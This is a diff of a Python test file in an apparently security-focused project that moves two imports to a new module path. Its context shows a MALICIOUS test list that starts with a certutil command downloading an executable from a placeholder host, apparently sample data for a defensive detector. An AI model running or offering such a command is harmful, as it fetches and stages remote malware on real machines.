@@ -8,8 +8,8 @@ import json
 import pytest
 
 from distilsec.errors import ConfigError
-from distilsec.experiments.synth_config import load_synth_config
-from distilsec.experiments.synth_tables import run_synth_tables
+from distilsec.pipeline.sweeps.synth_config import load_synth_config
+from distilsec.pipeline.sweeps.synth_tables import run_synth_tables
 
 MALICIOUS = [
     "certutil.exe -urlcache -split -f http://{h}/a{i}.exe a{i}.exe",
